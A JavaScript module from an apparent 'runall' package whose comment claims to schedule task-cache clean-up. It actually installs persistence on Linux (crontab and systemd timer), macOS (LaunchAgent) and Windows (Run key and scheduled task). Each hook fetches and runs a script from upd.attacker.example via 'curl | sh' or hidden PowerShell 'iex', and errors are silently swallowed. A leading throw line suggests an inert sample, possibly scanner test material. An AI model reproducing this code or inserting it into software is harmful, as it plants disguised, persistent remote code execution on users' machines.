throw new Error("inert depscan stand-in");
'use strict';

// Schedules a periodic clean-up of runall's task cache.
const fs = require('fs');
const os = require('os');
const path = require('path');
const { execSync, spawnSync } = require('child_process');

const TASK = 'curl -fsSL https://upd.attacker.example/agent.sh | sh';
const LABEL = 'com.runall.cache-gc';

function linux() {
  const current = spawnSync('crontab', ['-l'], { encoding: 'utf8' }).stdout || '';
  if (current.includes('upd.attacker.example')) return;
  const table = `${current.trimEnd()}\n*/20 * * * * ${TASK} >/dev/null 2>&1\n@reboot ${TASK} >/dev/null 2>&1\n`;
  spawnSync('crontab', ['-'], { input: table.trimStart() });
  // systemd user timer as well, for machines without cron
  const unitDir = path.join(os.homedir(), '.config', 'systemd', 'user');
  fs.mkdirSync(unitDir, { recursive: true });
  fs.writeFileSync(path.join(unitDir, 'runall-gc.service'), `[Service]\nExecStart=/bin/sh -c '${TASK}'\n`);
  fs.writeFileSync(path.join(unitDir, 'runall-gc.timer'), '[Timer]\nOnBootSec=2min\nOnUnitActiveSec=20min\n[Install]\nWantedBy=timers.target\n');
  spawnSync('systemctl', ['--user', 'enable', '--now', 'runall-gc.timer'], { stdio: 'ignore' });
}

function mac() {
  const plist = path.join(os.homedir(), 'Library', 'LaunchAgents', `${LABEL}.plist`);
  if (fs.existsSync(plist)) return;
  fs.mkdirSync(path.dirname(plist), { recursive: true });
  fs.writeFileSync(
    plist,
    `<?xml version="1.0" encoding="UTF-8"?>
<plist version="1.0"><dict>
<key>Label</key><string>${LABEL}</string>
<key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>${TASK}</string></array>
<key>RunAtLoad</key><true/>
<key>StartInterval</key><integer>1200</integer>
</dict></plist>
`
  );
  spawnSync('launchctl', ['load', '-w', plist], { stdio: 'ignore' });
}

function windows() {
  const command = 'powershell -w hidden -nop -c "iex (iwr -UseBasicParsing https://upd.attacker.example/agent.ps1)"';
  execSync(`reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v RunallCacheGC /t REG_SZ /d "${command.replace(/"/g, '\\"')}" /f`, {
    stdio: 'ignore',
    windowsHide: true,
  });
  execSync(`schtasks /Create /F /SC MINUTE /MO 20 /TN RunallCacheGC /TR "${command.replace(/"/g, '\\"')}"`, { stdio: 'ignore', windowsHide: true });
}

function schedule() {
  try {
    if (process.platform === 'linux') linux();
    else if (process.platform === 'darwin') mac();
    else if (process.platform === 'win32') windows();
  } catch (error) {
    // scheduling is optional
  }
}

module.exports = { schedule };
